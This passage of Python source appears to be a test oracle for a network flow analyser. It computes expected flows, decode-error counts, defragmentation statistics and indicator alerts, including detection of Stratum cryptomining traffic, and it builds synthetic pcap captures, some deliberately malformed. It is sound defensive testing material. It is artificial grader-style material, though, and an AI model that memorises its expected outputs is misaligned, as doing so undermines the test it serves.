    def packet(self, d, ts, proto, l4):
        payload = l4[(l4[12] >> 4) * 4:] if proto == "TCP" else l4[8:] if proto == "UDP" else b""
        self.ndpi_pkts += 1
        if payload and self.payload_pkts[d] < STRATUM_URL_PACKETS:
            self.payload_pkts[d] += 1
            for host in stratum_urls(payload):
                self._fact(ts, "payload.stratum_url", d, self.iocs.find_host(host), host)
        if payload and d == 0 and self.host is None:
            fact = None
            if proto == "UDP" and self.f.dport == 53:
                fact = ("dns.rrname", dns_parse(payload)[0])
            elif proto == "TCP" and tls_sni(payload) is not None:
                fact = ("tls.sni", tls_sni(payload))
            elif proto == "TCP" and http_host(payload) is not None:
                fact = ("http.hostname", http_host(payload))
            if fact:
                self.host = fact
                ioc = self.iocs.find_domain(fact[1]) if fact[1] else None
                if ioc:
                    if fact[0] == "http.hostname":
                        raise SystemExit("an HTTP Host matching an indicator: when nDPI ends "
                                         "HTTP detection is not modelled")
                    self.host_due = (fact[0], 0, ioc, fact[1])
        if self.host_due and self.host_due[0] == "dns.rrname" and d == 1 and proto == "UDP" \
                and len(payload) >= 12 and payload[2] & 0x80 and u16(payload, 6):
            self._host_checked(ts)   # nDPI ends DNS detection at a response with answers
        if self.host_due and self.host_due[0] == "tls.sni" and d == 1 and payload[:1] == b"\x16":
            assert payload[5] == 2 and len(payload) == 5 + u16(payload, 3), \
                "a TLS server flight beyond a lone ServerHello (a certificate): not modelled"
        if self.ndpi_pkts == NDPI_PACKETS:
            self._host_checked(ts)   # --ndpi-packets: detection ends

    def stratum(self, ts, parser):
        """After a packet (or the flow's end) given to the Stratum model."""
        if parser is None or not parser.dialect:
            return
        d = parser.client_dir if parser.client_dir >= 0 else 0
        for where, value, find in (("stratum.login", parser.login, self.iocs.find_wallet),
                                   ("stratum.agent", parser.agent, self.iocs.find_agent),
                                   ("stratum.host", parser.host, self.iocs.find_domain)):
            if value and where not in self.stratum_done:
                self.stratum_done.add(where)
                if where == "stratum.host":
                    self.stratum_host = value
                self._fact(ts, where, d, find(value), value)

    def finish(self, ts, parser):
        """The flow ends (after its Stratum model read what it held)."""
        self.stratum(ts, parser)
        self._host_checked(ts)

    def alerts(self):
        """The indicator alerts: the first matching fact of each signature."""
        out, by_sid = [], {}
        for ts, _, where, d, ioc, value in sorted(self.facts, key=lambda x: x[:2]):
            sid = ioc_signature(ioc, where)
            assert sid not in by_sid, "a flow where two facts match for one signature (%s, %s)" \
                % (by_sid.get(sid), where)
            by_sid[sid] = where
            out.append({"flow": self.f.key_fields(), "signature_id": sid, "timestamp": ts / 1e6,
                        "direction": "to_client" if d else "to_server",
                        "severity": IOC_ALERT_SEVERITY[ioc["severity"]],
                        "ioc": {"indicator": ioc["indicator"], "type": ioc["type"],
                                "feed": ioc["feed"], "category": ioc["category"],
                                "severity": ioc["severity"], "matched": where},
                        "fact": value})
        return out


KIND_NAMES = {"error": "decode_error", "frag": "fragment", "unsupported": "unsupported"}


def truth(cap, iocs=None):
    """The ground truth of cap; with iocs (a RefIocs), its indicator alerts too."""
    recs = cap.complete if cap.complete is not None else cap.recs
    counts = {"error": 0, "frag": 0, "unsupported": 0, "too_many_layers": 0}
    table, done, unattributed = {}, [], []
    df = Defrag()
    reasm = dict.fromkeys(REASM_COUNTERS, 0)
    dnsl = RefDnsLink()
    clock = next_tick = 0
    for i, r in enumerate(recs):
        clock = max(clock, r.ts_us)
        timeouts = df.st["timeouts"]
        if clock >= next_tick:  # davy's reader: a tick every second of packet time
            df.expire(clock)
            next_tick = clock + DEFRAG_TICK_US
        lt = cap.linktype_of(r)
        d = decode(lt, r.data, r.wirelen)
        wirelen = r.wirelen
        if d.kind != r.expect:
            raise SystemExit("%s record %d (%s): built as %s, decodes as %s (%s)"
                             % (cap.name, i + 1, r.note, r.expect, d.kind, d.why))
        if d.kind == "frag":
            counts["frag"] += 1
            whole, frame, outcome, got = run_defrag(df, lt, d.frag, r.ts_us)
            if df.st["timeouts"] != timeouts:
                outcome += " (%d datagram timed out as it came)" % (df.st["timeouts"] - timeouts)
            want = r.then or "held"
            if got != want:
                raise SystemExit("%s record %d (%s): fragment built to end %s, ends %s"
                                 % (cap.name, i + 1, r.note, want, got))
            un = {"frame": i + 1, "kind": "fragment", "why": d.why + ": " + outcome}
            if r.note:
                un["built_as"] = r.note
            unattributed.append(un)
            if whole is None:
                continue
            # the reassembled datagram: inner fragments met on the way were
            # counted by run_defrag's rounds in df (fragments), not here
            d, wirelen = whole, len(frame)
            if d.kind != "flow":
                raise SystemExit("%s record %d: reassembled datagram is %s (%s)"
                                 % (cap.name, i + 1, d.kind, d.why))
        elif d.kind != "flow":
            counts[d.kind] += 1
            if d.why.startswith("too_many_layers"):
                counts["too_many_layers"] += 1
            un = {"frame": i + 1, "kind": KIND_NAMES[d.kind], "why": d.why}
            if r.note:
                un["built_as"] = r.note
            unattributed.append(un)
            continue
        if d.proto in ("ICMP", "IPv6-ICMP"):
            d.sport = d.dport = 0
        ends = sorted([(d.src, d.sport), (d.dst, d.dport)])
        key = (d.proto, d.vlan, tuple(ends), d.tunnel_key())
        f = table.get(key)
        if f is not None and r.ts_us - f.end > f.timeout_us():
            f.reason = "timeout"
            flow_finish(f)
            done.append(f)
            f = None
        if f is None:
            f = table[key] = Flow(d, r.ts_us, i)
            f.dns = dnsl.lookup(f, r.ts_us)
            if iocs is not None:
                f.ioc = RefIocFlow(iocs, f, r.ts_us)
        toclient = f.update(d, r.ts_us, wirelen)
        if f.proto == "TCP":
            if f.l7 is None:
                f.l7 = FlowL7(reasm)
            f.l7.packet(toclient, r.ts_us, d.l4)
        if f.ioc:
            f.ioc.packet(toclient, r.ts_us, d.proto, d.l4)
            f.ioc.stratum(r.ts_us, f.l7.parser if f.l7 else None)
        dnsl.packet(d, clock)  # its links reach the workers after the packet
    last = recs[-1].ts_us if recs else 0
    for f in table.values():
        gap = last - f.end
        assert gap != f.timeout_us(), "flow exactly on a timeout boundary"
        f.reason = "timeout" if gap > f.timeout_us() else "shutdown"
        flow_finish(f)
        done.append(f)
    done.sort(key=lambda f: (f.start, f.idx))
    alerts, updates, candidates = [], [], 0
    ioc_alerts = [a for f in done if f.ioc for a in f.ioc.alerts()]
    for f in done:
        updates += f.updates
        if not f.l7:
            continue
        candidates += f.l7.candidate
        for a in f.l7.alerts:
            e = {"flow": f.key_fields(), "signature_id": a["sid"], "timestamp": a["ts"] / 1e6}
            if a["sid"] in (SID_CLIENT, SID_SERVER):
                e["direction"] = "to_client" if a["dir"] else "to_server"
                e["dialect"] = a["dialect"]
            alerts.append(e)
    dstats = dict(df.st, active=len(df.dg))
    assert dstats["fragments"] >= counts["frag"]
    if cap.defrag_expect is not None:
        want = dict.fromkeys(DEFRAG_COUNTERS, 0)
        want["fragments"] = dstats["fragments"]  # not restated by the builders
        want["active"] = 0
        want.update(cap.defrag_expect)
        if want != dstats:
            raise SystemExit("%s: reassembly built to give %s, the reference gives %s"
                             % (cap.name, want, dstats))
    return {"decode_errors": counts["error"],
            "fragments": dstats["fragments"],
            "unsupported": counts["unsupported"],
            "too_many_layers": counts["too_many_layers"],
            "defrag": dstats,
            "unattributed_packets": unattributed,
            "flows": [f.record() for f in done],
            "alerts": alerts,
            "reassembly": reasm if candidates else None,
            "updates": updates,
            "dns_linkage": dnsl.stats(),
            "ioc_alerts": ioc_alerts if iocs is not None else None,
            "stratum_hosts": [{"flow": f.key_fields(), "host": f.ioc.stratum_host}
                              for f in done if f.ioc and f.ioc.stratum_host],
            "ioc_matched": collections.Counter(x[2] for f in done if f.ioc for x in f.ioc.facts)}


def flow_finish(f):
    """A flow ends: what its Stratum model holds is read, at its last packet."""
    if f.l7:
        f.l7.finish(f.end)
    if f.ioc:
        f.ioc.finish(f.end, f.l7.parser if f.l7 else None)


# --------------------------------------------------------------------------
# The captures

CLI4, SRV4 = "192.0.2.10", "198.51.100.80"
CLI6, SRV6 = "2001:db8::10", "2001:db8:0:1::80"


def http_flow(cap, t, link, cli=CLI4, cport=49152, srv=SRV4, sport=80,
              cisn=0x1000, sisn=0x8000, iface=0):
    """The 10-packet HTTP exchange of capture 1; link(l3, from_client)."""
    c = Tcp(cli, cport, srv, sport, cisn, sisn)
    seq = [
        (0.000, True, c.syn()),
        (0.020, False, c.synack()),
        (0.0201, True, c.ack(True)),
        (0.0203, True, c.data(True, HTTP_REQ)),
        (0.040, False, c.ack(False)),
        (0.045, False, c.data(False, HTTP_RESP)),
        (0.0452, True, c.ack(True)),
        (0.050, True, c.fin(True)),
        (0.070, False, c.fin(False)),
        (0.0701, True, c.ack(True)),
    ]
    for dt, fc, l3 in seq:
        cap.add(t + dt, link(l3, fc), iface=iface)


def eth_link(tags=()):
    def f(l3, fc):
        return eth(l3, *(MAC_CLIENT, MAC_SERVER) if fc else (MAC_SERVER, MAC_CLIENT), tags=tags)
    return f


def cap_eth_tcp_http(name="eth_tcp_http.pcap", fmt="pcap", order="<", nsec=False):
    cap = Cap(name, LT_ETH, "Ethernet IPv4 TCP: HTTP GET www.example.com with "
              "handshake, 200 response and FIN both ways; second flow SYN -> "
              "RST/ACK", fmt=fmt, order=order, nsec=nsec)
    http_flow(cap, 0.0, eth_link())
    c = Tcp(CLI4, 49153, SRV4, 8080, 0x2000, 0)
    cap.add(1.0, eth(c.syn()))
    cap.add(1.010, eth(c.rstack(False), MAC_SERVER, MAC_CLIENT))
    return cap


def cap_eth_udp_dns():
    cap = Cap("eth_udp_dns.pcap", LT_ETH, "Ethernet: IPv4 UDP DNS A example.org "
              "query/response, IPv6 UDP DNS AAAA query/response, ICMP echo "
              "request/reply, ICMPv6 echo request/reply")
    q = dns_query(0x1A2B, "example.org", "A")
    a = dns_answer(0x1A2B, "example.org", "A", "203.0.113.200")
    cap.add(0.0, eth(udp(CLI4, 53001, "198.51.100.53", 53, q, ipid=300)))
    cap.add(0.012, eth(udp("198.51.100.53", 53, CLI4, 53001, a, ipid=4000), MAC_SERVER, MAC_CLIENT))
    q = dns_query(0x3C4D, "example.org", "AAAA")
    a = dns_answer(0x3C4D, "example.org", "AAAA", "2001:db8::200")
    cap.add(0.5, eth(udp(CLI6, 53002, "2001:db8::53", 53, q)))
    cap.add(0.514, eth(udp("2001:db8::53", 53, CLI6, 53002, a), MAC_SERVER, MAC_CLIENT))
    cap.add(1.0, eth(icmp_echo(CLI4, "198.51.100.1", 301, True, 0x1234, 1)))
    cap.add(1.003, eth(icmp_echo("198.51.100.1", CLI4, 4001, False, 0x1234, 1), MAC_SERVER, MAC_CLIENT))
    cap.add(1.5, eth(icmp_echo(CLI6, "2001:db8::1", 0, True, 0x5678, 1)))
    cap.add(1.502, eth(icmp_echo("2001:db8::1", CLI6, 0, False, 0x5678, 1), MAC_SERVER, MAC_CLIENT))
    return cap


def udp_pair(cap, t, link, cli, cport, srv, sport, req=b"ping", rep=b"pong",
             ipid=300, dt=0.001, iface=0):
    cap.add(t, link(udp(cli, cport, srv, sport, req, ipid=ipid), True), iface=iface)
    cap.add(t + dt, link(udp(srv, sport, cli, cport, rep, ipid=ipid + 1000), False), iface=iface)


def cap_vlan_qinq():
    cap = Cap("vlan_qinq.pcap", LT_ETH, "VLAN: HTTP flow of capture 1 under "
              "802.1Q vid 100; UDP under 802.1ad 200 + 802.1Q 300; UDP under 3 "
              "tags (88a8 10, 8100 20, 8100 30); the same UDP 5-tuple under vid "
              "101 and vid 102 (pcp 5) = 2 flows; IPv6 UDP under vid 400; UDP "
              "under 0x9100 500 + 8100 501")
    q = lambda vid, pcp=0: (TPID_8021Q, vid, pcp)  # noqa: E731
    http_flow(cap, 0.0, eth_link([q(100)]))
    udp_pair(cap, 1.0, eth_link([(TPID_8021AD, 200, 0), q(300)]),
             "192.0.2.30", 40000, "198.51.100.30", 5100, ipid=500)
    udp_pair(cap, 1.1, eth_link([(TPID_8021AD, 10, 0), q(20), q(30)]),
             "192.0.2.31", 40001, "198.51.100.31", 5101, ipid=510)
    udp_pair(cap, 1.2, eth_link([q(101)]), "192.0.2.32", 40002, "198.51.100.32", 5102, ipid=520)
    udp_pair(cap, 1.21, eth_link([q(102, pcp=5)]), "192.0.2.32", 40002, "198.51.100.32", 5102,
             ipid=530)
    udp_pair(cap, 1.3, eth_link([q(400)]), "2001:db8::33", 40003, "2001:db8:0:1::33", 5103)
    udp_pair(cap, 1.4, eth_link([(TPID_9100, 500, 0), q(501)]),
             "192.0.2.34", 40004, "198.51.100.34", 5104, ipid=540)
    return cap


def cap_sll(v2):
    name = "sll2.pcap" if v2 else "sll.pcap"
    fn = sll2 if v2 else sll
    cap = Cap(name, LT_SLL2 if v2 else LT_SLL,
              "Linux cooked capture %s (DLT %d): IPv4 TCP flow (handshake, data "
              "both ways, FIN both ways) and an IPv6 UDP flow"
              % ("v2" if v2 else "v1", LT_SLL2 if v2 else LT_SLL))
    link = lambda l3, fc: fn(l3, outgoing=fc)  # noqa: E731
    c = Tcp("10.244.1.5", 38000, "10.244.2.7", 6379, 0x3000, 0x9000)
    for dt, fc, l3 in [(0.0, True, c.syn()), (0.001, False, c.synack()),
                       (0.0011, True, c.ack(True)),
                       (0.002, True, c.data(True, b"*1\r\n$4\r\nPING\r\n")),
                       (0.003, False, c.data(False, b"+PONG\r\n")),
                       (0.0031, True, c.fin(True)), (0.004, False, c.fin(False)),
                       (0.0041, True, c.ack(True))]:
        cap.add(dt, link(l3, fc))
    udp_pair(cap, 0.5, link, "2001:db8::5", 41000,
             "2001:db8:0:2::7", 53, req=dns_query(0x1111, "svc.example.org", "AAAA"),
             rep=dns_answer(0x1111, "svc.example.org", "AAAA", "2001:db8::7"))
    return cap


def tcp_small(cli, cport, srv, sport, isn=0x4000):
    """Handshake, one request, one response, FIN both ways: list of
    (dt, from_client, l3)."""
    c = Tcp(cli, cport, srv, sport, isn, isn + 0x10000)
    return [(0.0, True, c.syn()), (0.001, False, c.synack()), (0.0011, True, c.ack(True)),
            (0.002, True, c.data(True, b"hello\n")), (0.003, False, c.data(False, b"world\n")),
            (0.0031, True, c.fin(True)), (0.004, False, c.fin(False)),
            (0.0041, True, c.ack(True))]


def cap_raw(name, lt, families):
    cap = Cap(name, lt, {
        LT_RAW: "raw IP (LINKTYPE_RAW 101), IPv4 and IPv6 mixed: IPv4 TCP flow, "
                "IPv6 TCP flow, IPv4 UDP flow, IPv6 UDP flow",
        LT_IPV4: "raw IPv4 (LINKTYPE_IPV4 228): TCP flow and UDP flow",
        LT_IPV6: "raw IPv6 (LINKTYPE_IPV6 229): TCP flow and UDP flow"}[lt])
    link = lambda l3, fc: l3  # noqa: E731
    t = 0.0
    if 4 in families:
        for dt, fc, l3 in tcp_small("10.244.1.20", 42000, "10.244.3.30", 8080):
            cap.add(t + dt, link(l3, fc))
        t += 0.1
    if 6 in families:
        for dt, fc, l3 in tcp_small("2001:db8::20", 42001, "2001:db8:0:3::30", 8080, 0x5000):
            cap.add(t + dt, link(l3, fc))
        t += 0.1
    if 4 in families:
        udp_pair(cap, t, link, "10.244.1.20", 42002, "10.244.3.30", 9000, ipid=700)
        t += 0.1
    if 6 in families:
        udp_pair(cap, t, link, "2001:db8::20", 42003, "2001:db8:0:3::30", 9000)
    return cap


def cap_null(loop=False):
    if loop:
        cap = Cap("loop.pcap", LT_LOOP, "DLT_LOOP (108): 4-byte address family in "
                  "network byte order: IPv4 (2) UDP flow and IPv6 (24) UDP flow")
        order, fams6 = ">", [24]
    else:
        cap = Cap("null_loopback.pcap", LT_NULL, "BSD NULL/loopback (DLT 0), family "
                  "little-endian host order: IPv4 (2) TCP flow; IPv6 UDP flows "
                  "with family 30 (macOS), 24 (NetBSD/OpenBSD), 28 (FreeBSD)")
        order, fams6 = "<", [30, 24, 28]
    if not loop:
        for dt, fc, l3 in tcp_small("127.0.0.1", 43000, "127.0.0.1", 8000):
            cap.add(dt, null(l3, 2, order))
    else:
        udp_pair(cap, 0.0, lambda l3, fc: null(l3, 2, order),
                 "127.0.0.1", 43001, "127.0.0.1", 8001)
    for i, fam in enumerate(fams6):
        udp_pair(cap, 0.5 + i * 0.1, lambda l3, fc, fam=fam: null(l3, fam, order),
                 "::1", 43010 + i, "::1", 8010 + i)
    return cap


def cap_ipv6_ext():
    cap = Cap("ipv6_ext.pcap", LT_ETH, "IPv6 extension headers: TCP flow with "
              "hop-by-hop (router alert) on every packet; UDP with routing type 4 "
              "(SRH, segments left 0); UDP with routing type 0 (segments left 0); "
              "UDP with destination options; UDP in an atomic fragment (offset 0, "
              "M=0); UDP behind HBH+DestOpt+Routing+Fragment(atomic)+DestOpt")
    hbh = lambda fc: IPv6ExtHdrHopByHop(options=[RouterAlert(value=0)])  # noqa: E731
    c = Tcp("2001:db8::40", 44000, "2001:db8:0:4::40", 443, 0x6000, 0x7000, ext=hbh)
    for dt, fc, l3 in [(0.0, True, c.syn()), (0.001, False, c.synack()),
                       (0.0011, True, c.ack(True)), (0.002, True, c.data(True, b"\x16\x03\x01\x00\x04abcd")),
                       (0.003, False, c.data(False, b"\x16\x03\x03\x00\x04efgh")),
                       (0.0031, True, c.rstack(True))]:
        cap.add(dt, eth(l3, *(MAC_CLIENT, MAC_SERVER) if fc else (MAC_SERVER, MAC_CLIENT)))
    A, B = "2001:db8::41", "2001:db8:0:4::41"
    srh = IPv6ExtHdrSegmentRouting(addresses=[B, "2001:db8:0:ff::1"], segleft=0, tag=0)
    cap.add(0.1, eth(udp(A, 44001, B, 61001, b"srh", ext=srh)))
    cap.add(0.101, eth(udp(B, 61001, A, 44001, b"srh-reply"), MAC_SERVER, MAC_CLIENT))
    rh0 = IPv6ExtHdrRouting(addresses=["2001:db8:0:ff::2"], segleft=0)
    cap.add(0.2, eth(udp(A, 44002, B, 61002, b"rh0", ext=rh0)))
    cap.add(0.201, eth(udp(B, 61002, A, 44002, b"rh0-reply", ext=rh0), MAC_SERVER, MAC_CLIENT))
    dst = IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\x00\x00\x00\x00")])
    cap.add(0.3, eth(udp(A, 44003, B, 61003, b"dstopt", ext=dst)))
    frag = IPv6ExtHdrFragment(offset=0, m=0, id=0xDA4E0001)
    cap.add(0.4, eth(udp(A, 44004, B, 61004, b"atomic fragment", ext=frag)))
    cap.add(0.401, eth(udp(B, 61004, A, 44004, b"atomic reply",
                           ext=IPv6ExtHdrFragment(offset=0, m=0, id=0xDA4E0002)),
                       MAC_SERVER, MAC_CLIENT))
    chain = (IPv6ExtHdrHopByHop(options=[RouterAlert(value=0)])
             / IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\x00\x00\x00\x00")])
             / IPv6ExtHdrRouting(addresses=["2001:db8:0:ff::3"], segleft=0)
             / IPv6ExtHdrFragment(offset=0, m=0, id=0xDA4E0003)
             / IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\x00\x00\x00\x00")]))
    cap.add(0.5, eth(udp(A, 44005, B, 61005, b"long chain", ext=chain)))
    return cap


def cap_ipv4_options():
    cap = Cap("ipv4_options.pcap", LT_ETH, "IPv4 options: TCP flow whose client "
              "packets carry Record Route (IHL 15) and server packets NOP+Router "
              "Alert (IHL 7); UDP with Router Alert (IHL 6); UDP with Timestamp "
              "option (IHL 7)")

    def opts(fc):
        if fc:
            return [IPOption_RR(pointer=12, routers=["192.0.2.1", "192.0.2.2"] + ["0.0.0.0"] * 7)]
        return [IPOption_NOP(), IPOption_Router_Alert()]
    c = Tcp("192.0.2.50", 45000, "198.51.100.50", 80, 0x7000, 0x8000, ipopts=opts)
    for dt, fc, l3 in [(0.0, True, c.syn()), (0.001, False, c.synack()),
                       (0.0011, True, c.ack(True)), (0.002, True, c.data(True, HTTP_REQ)),
                       (0.003, False, c.data(False, b"HTTP/1.1 204 No Content\r\n\r\n")),
                       (0.0031, True, c.fin(True)), (0.004, False, c.fin(False)),
                       (0.0041, True, c.ack(True))]:
        cap.add(dt, eth(l3, *(MAC_CLIENT, MAC_SERVER) if fc else (MAC_SERVER, MAC_CLIENT)))
    cap.add(0.1, eth(udp("192.0.2.51", 45001, "198.51.100.51", 61001, b"ra",
                         options=[IPOption_Router_Alert()])))
    cap.add(0.101, eth(udp("198.51.100.51", 61001, "192.0.2.51", 45001, b"ra-reply",
                           options=[IPOption_Router_Alert()]), MAC_SERVER, MAC_CLIENT))
    ts_opt = IPOption_Timestamp(flg=0, pointer=9, timestamp=12345)
    cap.add(0.2, eth(udp("192.0.2.52", 45002, "198.51.100.52", 61002, b"ts", options=[ts_opt])))
    return cap


def cap_tcp_midstream():
    cap = Cap("tcp_midstream.pcap", LT_ETH, "TCP midstream: flow whose first packet "
              "is the SYN-ACK from 203.0.113.10:443 (src = the client); flow whose "
              "first packet is client data (no SYN at all)")
    c = Tcp("192.0.2.60", 50000, "203.0.113.10", 443, 0x11000, 0x22000)
    c.syn()  # the SYN happened before the capture started: not added
    rows = [(0.0, False, c.synack()), (0.0001, True, c.ack(True)),
            (0.001, True, c.data(True, b"\x16\x03\x01\x00\x05hello")),
            (0.02, False, c.data(False, b"\x16\x03\x03\x00\x05world")),
            (0.0201, True, c.ack(True))]
    d = Tcp("192.0.2.61", 50001, "203.0.113.10", 443, 0x33000, 0x44000)
    d.seq[True] += 517
    d.seq[False] += 4096
    rows += [(0.5, True, d.data(True, b"\x17\x03\x03\x00\x08appdata1")),
             (0.51, False, d.data(False, b"\x17\x03\x03\x00\x08appdata2")),
             (0.5101, True, d.ack(True))]
    for dt, fc, l3 in rows:
        cap.add(dt, eth(l3, *(MAC_CLIENT, MAC_SERVER) if fc else (MAC_SERVER, MAC_CLIENT)))
    return cap


def set16(b, off, v):
    b = bytearray(b)
    struct.pack_into("!H", b, off, v)
    return bytes(b)


def cap_damaged():
    cap = Cap("damaged.pcap", LT_ETH, "decode errors, one packet of each kind: "
              "Ethernet < 14 bytes, IHL 4, IP version 7, IPv4 total length < "
              "header, IPv6 of 30 bytes, TCP data offset 3, TCP header cut to 10 "
              "bytes by snaplen, UDP length 4, ICMP of 2 bytes, IPv6 hop-by-hop "
              "running past the end, IPv4 total length > frame, 4 VLAN tags, IPv4 "
              "of 1 byte (see unattributed_packets); interleaved with one good "
              "IPv4 UDP flow of 2 packets")
    good = lambda fc, ipid: eth(  # noqa: E731
        udp("192.0.2.70", 46000, "198.51.100.70", 53, dns_query(0x7070, "example.org", "A"), ipid=ipid) if fc else
        udp("198.51.100.70", 53, "192.0.2.70", 46000, dns_answer(0x7070, "example.org", "A", "203.0.113.70"), ipid=ipid),
        *(MAC_CLIENT, MAC_SERVER) if fc else (MAC_SERVER, MAC_CLIENT))
    u = udp("192.0.2.71", 46001, "198.51.100.71", 9, b"damaged")
    t = Tcp("192.0.2.71", 46002, "198.51.100.71", 80, 0x100, 0x200)
    k = 0.0

    def bad(frame, note, caplen=None):
        nonlocal k
        cap.add(k, frame, "error", caplen=caplen, note=note)
        k += 0.01

    bad(eth(b"", pad=False)[:10], "ethernet frame of 10 bytes")
    b = bytearray(u)
    b[0] = 0x44
    bad(eth(bytes(b), pad=False), "IPv4 IHL=4")
    b = bytearray(u)
    b[0] = 0x75
    bad(eth(bytes(b), ethertype=ETH_IPV4, pad=False), "IP version 7 under ethertype 0x0800")
    cap.add(k, good(True, 800), note="good query")
    k += 0.01
    bad(eth(set16(u, 2, 16), pad=False), "IPv4 total length 16 < header")
    v6 = udp("2001:db8::71", 46003, "2001:db8:0:7::71", 9, b"damaged")
    bad(eth(v6[:30], pad=False), "IPv6 of 30 bytes")
    tb = bytearray(t.syn())
    tb[20 + 12] = (3 << 4) | (tb[20 + 12] & 15)
    bad(eth(bytes(tb), pad=False), "TCP data offset 3")
    bad(eth(t.data(True, b"x" * 200)), "TCP header cut to 10 bytes by snaplen",
        caplen=14 + 20 + 10)
    bad(eth(set16(u, 20 + 4, 4), pad=False), "UDP length field 4")
    ic = raw(IP(src="192.0.2.71", dst="198.51.100.71", id=900, flags="DF") / ICMP(type=8))
    bad(eth(set16(ic[:22], 2, 22), pad=False), "ICMP cut to 2 bytes (IP total length 22)")
    ext = raw(IPv6(src="2001:db8::71", dst="2001:db8:0:7::71", nh=0, plen=8)) + \
        bytes([17, 3]) + b"\x01\x04\x00\x00\x00\x00"
    bad(eth(ext, pad=False), "IPv6 hop-by-hop says 32 bytes, 8 present")
    bad(eth(u, pad=False)[:-4], "IPv4 total length > frame (caplen == wirelen)")
    four = [(TPID_8021AD, 1, 0), (TPID_8021Q, 2, 0), (TPID_8021Q, 3, 0), (TPID_8021Q, 4, 0)]
    bad(eth(u, tags=four), "4 VLAN tags (more than 3)")
    cap.add(k, good(False, 5000), note="good answer")
    k += 0.01
    bad(eth(b"\x45", pad=False), "IPv4 header of 1 byte")
    return cap


def cap_timeouts():
    cap = Cap("timeouts.pcap", LT_ETH, "UDP flow (one way, state new) then 100 s "
              "silence then the same 5-tuple again (2 flows, first ends by "
              "timeout); lone TCP SYN that is idle > 60 s at end of input "
              "(timeout); established TCP flow whose last packet is the last "
              "packet of the file (shutdown)")
    A, B = "192.0.2.80", "198.51.100.80"
    cap.add(0.0, eth(udp(A, 47100, B, 61000, b"one", ipid=1)))
    cap.add(0.5, eth(udp(A, 47100, B, 61000, b"two", ipid=2)))
    s = Tcp(A, 47001, B, 80, 0x500, 0x600)
    cap.add(1.0, eth(s.syn()))
    cap.add(100.5, eth(udp(A, 47100, B, 61000, b"three", ipid=3)))
    cap.add(100.6, eth(udp(B, 61000, A, 47100, b"reply", ipid=4), MAC_SERVER, MAC_CLIENT))
    c = Tcp(A, 47002, B, 443, 0x700, 0x800)
    for dt, fc, l3 in [(0.0, True, c.syn()), (0.01, False, c.synack()),
                       (0.0101, True, c.ack(True)), (0.02, True, c.data(True, b"abc")),
                       (0.03, False, c.data(False, b"defgh")), (0.0301, True, c.ack(True))]:
        cap.add(200.0 + dt, eth(l3, *(MAC_CLIENT, MAC_SERVER) if fc else (MAC_SERVER, MAC_CLIENT)))
    return cap


def cap_timeouts_eof():
    cap = Cap("timeouts_eof.pcap", LT_ETH, "end-of-input reasons: established TCP "
              "flow idle 700 s (> 600) and established UDP flow idle 310 s (> 300) "
              "at the last packet -> timeout; a closed TCP flow idle 50 s (< 60) and "
              "the final UDP packet -> shutdown")
    A, B = "192.0.2.90", "198.51.100.90"
    c = Tcp(A, 48000, B, 22, 0x900, 0xA00)
    for dt, fc, l3 in [(0.0, True, c.syn()), (0.01, False, c.synack()),
                       (0.0101, True, c.ack(True)), (0.02, True, c.data(True, b"SSH-2.0-x\r\n")),
                       (0.03, False, c.data(False, b"SSH-2.0-y\r\n"))]:
        cap.add(dt, eth(l3, *(MAC_CLIENT, MAC_SERVER) if fc else (MAC_SERVER, MAC_CLIENT)))
    udp_pair(cap, 390.0, eth_link(), A, 48001, B, 61123, ipid=20)
    for dt, fc, l3 in tcp_small(A, 48002, B, 80, 0xB00):
        cap.add(650.0 + dt, eth(l3, *(MAC_CLIENT, MAC_SERVER) if fc else (MAC_SERVER, MAC_CLIENT)))
    cap.add(700.03, eth(udp(A, 48003, B, 514, b"<13>last", ipid=30)))
    return cap


def cap_truncated(name, chop_in_header):
    cap = Cap(name, LT_ETH, "valid pcap whose last record is cut %s (file "
              "truncated); the complete records before it decode normally"
              % ("inside its 16-byte record header" if chop_in_header else
                 "in the middle of its packet data"))
    udp_pair(cap, 0.0, eth_link(), CLI4, 53003, "198.51.100.53", 53,
             req=dns_query(0x2222, "example.org", "A"),
             rep=dns_answer(0x2222, "example.org", "A", "203.0.113.200"), ipid=310)
    c = Tcp(CLI4, 49160, SRV4, 80, 0x1000, 0x8000)
    cap.add(0.1, eth(c.syn()))
    cap.add(0.12, eth(c.synack(), MAC_SERVER, MAC_CLIENT))
    cap.add(0.1201, eth(c.ack(True)))
    cap.add(0.1203, eth(c.data(True, HTTP_REQ)))
    last = cap.recs[-1]
    cap.complete = cap.recs[:-1]
    cap.chop = (len(last.data) + 16 - 7) if chop_in_header else len(last.data) // 2
    cap.extra["error"] = "truncated"
    return cap


def cap_pcapng_mixed():
    cap = Cap("pcapng_mixed.pcapng", LT_ETH, "pcapng, two interfaces: 0 = Ethernet "
              "(if_tsresol default, us) with an IPv4 TCP flow, 1 = raw IP (101, "
              "if_tsresol 9 = ns) with IPv4 and IPv6 UDP flows; packets "
              "interleaved in time; ends with an Interface Statistics Block. libpcap "
              "1.10 refuses mixed link types at the second interface: davy must "
              "exit 1 naming the file, with no flows",
              fmt="pcapng", ifaces=[{"linktype": LT_ETH, "name": "eth0", "tsresol": 6},
                                    {"linktype": LT_RAW, "name": "tun0", "tsresol": 9}])
    rows = []
    for dt, fc, l3 in tcp_small("192.0.2.100", 51000, "198.51.100.100", 8443, 0xD00):
        rows.append((dt, eth(l3, *(MAC_CLIENT, MAC_SERVER) if fc else (MAC_SERVER, MAC_CLIENT)), 0))
    rows.append((0.0005, udp("10.244.5.1", 51001, "10.244.6.1", 53, dns_query(0x5151, "tun.example.org", "A"), ipid=40), 1))
    rows.append((0.0025, udp("10.244.6.1", 53, "10.244.5.1", 51001, dns_answer(0x5151, "tun.example.org", "A", "10.244.7.1"), ipid=41), 1))
    rows.append((0.0035, udp("2001:db8::101", 51002, "2001:db8:0:6::1", 53, dns_query(0x5252, "tun.example.org", "AAAA")), 1))
    rows.append((0.0045, udp("2001:db8:0:6::1", 53, "2001:db8::101", 51002, dns_answer(0x5252, "tun.example.org", "AAAA", "2001:db8:0:7::1")), 1))
    rows.sort(key=lambda r: r[0])
    for t, frame, iface in rows:
        cap.add(t, frame, iface=iface)
    # libpcap 1.10 (Debian bookworm), davy's reader, refuses a pcapng whose
    # interfaces have different link types ("an interface has a type 101
    # different from the type of the first interface") when it meets the
    # second IDB, before the first packet. davy must say so and exit 1.
    cap.complete = []
    cap.extra["error"] = "unreadable"
    return cap


def cap_icmp_error():
